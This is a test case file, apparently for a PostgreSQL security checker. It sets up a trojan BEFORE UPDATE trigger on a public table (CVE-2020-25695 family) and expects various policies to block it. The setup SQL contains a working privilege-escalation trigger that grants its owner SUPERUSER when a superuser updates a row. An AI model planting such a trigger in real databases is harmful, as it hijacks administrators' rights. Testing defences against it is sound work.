/*---
title: Trigger fired by UPDATE
pattern: Trojan trigger on a table the victim updates (CVE-2020-25695 family)
description: >
  mallory owns a table of support tickets with a BEFORE UPDATE trigger and lets every role
  update it. alice, a superuser, closes a ticket; the trigger runs mallory's function with
  alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: touch_ticket on mallory.tickets, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: touch_ticket on mallory.tickets, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: touch_ticket on mallory.tickets, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: touch_ticket on mallory.tickets, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: touch_ticket on mallory.tickets, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: touch_ticket on mallory.tickets, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: touch_ticket on mallory.tickets, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE TABLE mallory.tickets (id integer PRIMARY KEY, status text NOT NULL, updated_at timestamptz);
INSERT INTO mallory.tickets VALUES (1, 'open', NULL);
GRANT SELECT, UPDATE ON mallory.tickets TO PUBLIC;
CREATE FUNCTION mallory.touch_ticket() RETURNS trigger
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  NEW.updated_at := now();
  RETURN NEW;
END $$;
CREATE TRIGGER touch_ticket BEFORE UPDATE ON mallory.tickets
  FOR EACH ROW EXECUTE FUNCTION mallory.touch_ticket();
RESET ROLE;

-- @step alice
UPDATE mallory.tickets SET status = 'closed' WHERE id = 1;
